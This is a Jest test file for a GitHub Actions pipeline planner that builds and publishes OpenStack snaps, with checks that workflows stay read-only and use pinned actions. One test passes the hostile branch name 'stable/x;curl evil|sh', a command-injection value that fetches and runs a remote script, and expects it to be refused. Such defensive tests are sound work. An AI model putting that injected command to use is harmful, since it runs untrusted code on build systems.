import { describe, expect, it } from '@jest/globals';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { ConfigurationError } from '../src/platform/errors.js';
import { planPipeline, type PipelineEvent } from '../src/github/plan.js';
import { ROOT, tempDir } from './helpers/fixtures.js';
import { runBundle } from './helpers/run-action.js';
import { serveRequirements } from './helpers/requirements-server.js';
import { git } from '../scripts/lib/git-fixtures.mjs';

const base: PipelineEvent = { eventName: 'push', refName: 'master', fork: false };

describe('the pipeline decides', () => {
  it.each<[string, Partial<PipelineEvent>, { ref: string; checkout: string; publish: boolean }]>([
    [
      'a pull request builds against its base, never publishes',
      { eventName: 'pull_request', refName: '12/merge', baseRef: 'stable/2025.1' },
      { ref: 'stable/2025.1', checkout: '', publish: false },
    ],
    [
      'pull_request_target never publishes either',
      { eventName: 'pull_request_target', refName: 'master', baseRef: 'master' },
      { ref: 'master', checkout: '', publish: false },
    ],
    ['a push to master publishes', {}, { ref: 'master', checkout: '', publish: true }],
    [
      'a push to main publishes: main is master',
      { refName: 'main' },
      { ref: 'main', checkout: '', publish: true },
    ],
    [
      'a push to stable/<series> publishes',
      { refName: 'stable/2025.1' },
      { ref: 'stable/2025.1', checkout: '', publish: true },
    ],
    [
      'a push to unmaintained/<series> publishes',
      { refName: 'unmaintained/2024.1' },
      { ref: 'unmaintained/2024.1', checkout: '', publish: true },
    ],
    [
      'a push to a feature branch builds only',
      { refName: 'feature/uwsgi' },
      { ref: 'feature/uwsgi', checkout: '', publish: false },
    ],
    [
      'a push in a fork never publishes',
      { fork: true },
      { ref: 'master', checkout: '', publish: false },
    ],
    [
      'a scheduled run on master publishes',
      { eventName: 'schedule' },
      { ref: 'master', checkout: '', publish: true },
    ],
    [
      'a dispatch rebuilds and publishes the branch it names',
      { eventName: 'workflow_dispatch', inputs: { branch: 'stable/2024.1' } },
      { ref: 'stable/2024.1', checkout: 'stable/2024.1', publish: true },
    ],
    [
      'a dispatch may ask not to publish',
      { eventName: 'workflow_dispatch', inputs: { branch: 'stable/2024.1', publish: false } },
      { ref: 'stable/2024.1', checkout: 'stable/2024.1', publish: false },
    ],
    [
      'a dispatch in a fork never publishes',
      { eventName: 'workflow_dispatch', fork: true },
      { ref: 'master', checkout: 'master', publish: false },
    ],
    [
      'a dispatch of a non-release branch builds only',
      { eventName: 'workflow_dispatch', inputs: { branch: 'feature/x' } },
      { ref: 'feature/x', checkout: 'feature/x', publish: false },
    ],
    [
      'a merge queue builds against its base, like a pull request',
      {
        eventName: 'merge_group',
        refName: 'gh-readonly-queue/main/pr-12-abc',
        mergeGroupBaseRef: 'refs/heads/main',
      },
      { ref: 'main', checkout: '', publish: false },
    ],
    [
      'a repository_dispatch on a release branch publishes',
      { eventName: 'repository_dispatch', refName: 'stable/2025.1' },
      { ref: 'stable/2025.1', checkout: '', publish: true },
    ],
  ])('%s', (_name, event, expected) => {
    expect(planPipeline({ ...base, ...event })).toMatchObject(expected);
  });

  it.each<[string, Partial<PipelineEvent>, boolean]>([
    ['a release branch', { refName: 'stable/2025.1' }, true],
    ['main', { refName: 'main' }, true],
    ['an -eol tag', { refName: '2023.2-eol' }, true],
    ['a feature branch', { refName: 'feature/uwsgi' }, false],
    ['a version tag', { refName: '27.0.0' }, false],
    [
      'a pull request into a feature branch',
      { eventName: 'pull_request', baseRef: 'feature/x' },
      false,
    ],
    ['a pull request into stable', { eventName: 'pull_request', baseRef: 'stable/2024.1' }, true],
    [
      'a dispatch of a feature branch',
      { eventName: 'workflow_dispatch', inputs: { branch: 'feature/x' } },
      false,
    ],
  ])('applies release constraints to %s: %s', (_name, event, constraints) => {
    expect(planPipeline({ ...base, ...event }).constraints).toBe(constraints);
  });

  describe('a branch shaped like a release that names no series (stable/2023.1.2 of a hypervisor snap)', () => {
    it('builds as it is and does not publish, saying how to give it a series', () => {
      expect(planPipeline({ ...base, refName: 'stable/2023.1.2' })).toEqual({
        ref: 'stable/2023.1.2',
        checkout: '',
        publish: false,
        constraints: false,
        series: '',
        reason:
          "stable/2023.1.2 names no OpenStack series, so it builds without release constraints and does not publish (set the workflow's series input to build it with a series' constraints)",
      });
    });

    it("with the series input, builds with that series' constraints, and still does not publish", () => {
      expect(planPipeline({ ...base, refName: 'stable/2023.1.2', series: '2023.1' })).toMatchObject(
        {
          publish: false,
          constraints: true,
          series: '2023.1',
          reason: expect.stringMatching(/builds with 2023.1's constraints .* but does not publish/),
        },
      );
    });

    it('the series input leaves branches that name their series alone', () => {
      expect(planPipeline({ ...base, refName: 'stable/2025.1', series: '2023.1' })).toMatchObject({
        publish: true,
        constraints: true,
        series: '',
      });
      expect(planPipeline({ ...base, refName: 'feature/x', series: '2025.1' })).toMatchObject({
        publish: false,
        constraints: true,
        series: '2025.1',
      });
    });
  });

  it.each(['workflow_run', 'pull_request_review', 'pull_request_review_comment', 'issue_comment'])(
    'does not run for %s events, which can carry a stranger’s code',
    (eventName) => {
      expect(() => planPipeline({ ...base, eventName })).toThrow(
        new RegExp(`does not run for '${eventName}' events`),
      );
    },
  );

  it.each([
    'refs/pull/12/head',
    'refs/pull/12/merge',
    '5f2a9c1',
    'deadbeefdeadbeefdeadbeefdeadbeefdeadbeef',
    'refs/remotes/origin/main',
  ])(
    'a dispatch of %s is refused: only a branch of the repository, by its name, is rebuilt as trusted',
    (branch) => {
      expect(() =>
        planPipeline({ ...base, eventName: 'workflow_dispatch', inputs: { branch } }),
      ).toThrow(/a dispatch rebuilds a branch by its name/);
    },
  );

  it('refuses other events and hostile branch names', () => {
    expect(() => planPipeline({ ...base, eventName: 'issue_comment' })).toThrow(
      /does not run for 'issue_comment' events/,
    );
    expect(() =>
      planPipeline({
        ...base,
        eventName: 'workflow_dispatch',
        inputs: { branch: 'stable/x;curl evil|sh' },
      }),
    ).toThrow(ConfigurationError);
  });

  it('runs from its bundle, reading the fork flag from the event payload', async () => {
    const event = join(tempDir(), 'event.json');
    writeFileSync(event, JSON.stringify({ repository: { fork: true } }));
    const run = await runBundle(
      'plan',
      {},
      { GITHUB_EVENT_NAME: 'push', GITHUB_REF_NAME: 'stable/2025.1', GITHUB_EVENT_PATH: event },
    );
    expect(run.status).toBe(0);
    expect(run.outputs).toEqual({
      ref: 'stable/2025.1',
      checkout: '',
      publish: 'false',
      constraints: 'true',
      series: '',
      reason: 'forks never publish',
      'constraints-commit': '',
    });
  });

  it("builds another repository's branch for a build repository's scheduled or dispatched run, never for a change", () => {
    const build = { repository: 'openstack-snaps/snap-keystone', branch: 'stable/2025.1' };
    for (const eventName of ['schedule', 'workflow_dispatch', 'push'])
      expect(planPipeline({ ...base, eventName, refName: 'main', build })).toEqual({
        ref: 'stable/2025.1',
        checkout: 'stable/2025.1',
        publish: true,
        constraints: true,
        series: '',
        reason: `openstack-snaps/snap-keystone stable/2025.1, built by this repository's ${eventName} run`,
      });
    for (const eventName of ['pull_request', 'merge_group'])
      expect(() =>
        planPipeline({
          ...base,
          eventName,
          baseRef: 'main',
          mergeGroupBaseRef: 'refs/heads/main',
          build,
        }),
      ).toThrow(/builds another repository's branch.*leave 'repository' empty/);
    expect(() =>
      planPipeline({
        ...base,
        eventName: 'schedule',
        build: { ...build, branch: 'refs/pull/3/head' },
      }),
    ).toThrow(/a dispatch rebuilds a branch by its name/);
    expect(
      planPipeline({ ...base, eventName: 'schedule', build, inputs: { publish: false } }).reason,
    ).toBe('the caller asked not to publish');
  });

  it('resolves the constraints commit once, in the plan, from openstack/requirements', async () => {
    const requirements = await serveRequirements();
    try {
      const tip = git(requirements.path, ['rev-parse', 'refs/heads/stable/2025.1']).trim();
      const run = await runBundle(
        'plan',
        {
          repository: 'openstack-snaps/snap-keystone',
          branch: 'stable/2025.1',
          'requirements-repo': requirements.url,
        },
        {
          GITHUB_EVENT_NAME: 'schedule',
          GITHUB_REF_NAME: 'main',
          GITHUB_REPOSITORY: 'openstack-snaps/builds',
        },
      );
      expect(run.status).toBe(0);
      expect(run.outputs).toMatchObject({
        ref: 'stable/2025.1',
        checkout: 'stable/2025.1',
        publish: 'true',
        'constraints-commit': tip,
      });
      // Another repository needs its branch named, and a given commit must be one.
      const noBranch = await runBundle(
        'plan',
        { repository: 'openstack-snaps/snap-keystone' },
        { GITHUB_EVENT_NAME: 'schedule', GITHUB_REPOSITORY: 'openstack-snaps/builds' },
      );
      expect(noBranch.status).toBe(1);
      expect(noBranch.stdout).toContain("give the branch to build in 'branch' too");
    } finally {
      await requirements.stop();
    }
  });
});

interface Job {
  permissions?: Record<string, string>;
  if?: string;
  needs?: string | string[];
  steps?: {
    uses?: string;
    run?: string;
    with?: Record<string, unknown>;
    env?: Record<string, unknown>;
  }[];
  uses?: string;
  secrets?: unknown;
}
interface Workflow {
  on: Record<string, unknown>;
  permissions?: Record<string, string>;
  jobs: Record<string, Job>;
}
const workflowFiles = [
  ...readdirSync(join(ROOT, '.github/workflows')).map((f) => join('.github/workflows', f)),
  ...readdirSync(join(ROOT, 'examples/workflows')).map((f) => join('examples/workflows', f)),
];
const load = (file: string) => ({
  text: readFileSync(join(ROOT, file), 'utf8'),
  yaml: parse(readFileSync(join(ROOT, file), 'utf8')) as Workflow,
});

describe('workflows follow the house rules', () => {
  it.each(workflowFiles)(
    '%s: read-only by default, pinned, no event data in run:, no pull_request_target',
    (file) => {
      const { yaml } = load(file);
      expect(yaml.permissions).toEqual({ contents: 'read' });
      expect(Object.keys(yaml.on)).not.toContain('pull_request_target');
      for (const [name, job] of Object.entries(yaml.jobs)) {
        for (const [scope, level] of Object.entries(job.permissions ?? {})) {
          // Write scopes: the release's tag job moving the major tag, the fleet rebuild writing
          // its state file (granted by the mirror example that calls it), and the build
          // repository's plan and record writing theirs.
          if (level === 'write')
            expect([
              '.github/workflows/release.yml:tag:contents',
              'examples/workflows/fleet-rebuild.yml:rebuild:contents',
              'examples/workflows/mirror.yml:rebuild:contents',
              'examples/workflows/build-repository.yml:plan:contents',
              'examples/workflows/build-repository.yml:record:contents',
            ]).toContain(`${file}:${name}:${scope}`);
        }
        for (const step of job.steps ?? []) {
          // The toolkit's own actions run by the self-repository syntax ($/: the running commit).
          if (step.uses && !step.uses.startsWith('./') && !step.uses.startsWith('$/')) {
            expect(step.uses).toMatch(
              /^(actions\/[\w-]+@[0-9a-f]{40}|openstack-snap-actions\/openstack-snap-actions\/actions\/\w[\w-]*@v0)$/,
            );
          }
          if (step.run) expect(step.run).not.toContain('${{');
        }
      }
    },
  );
});
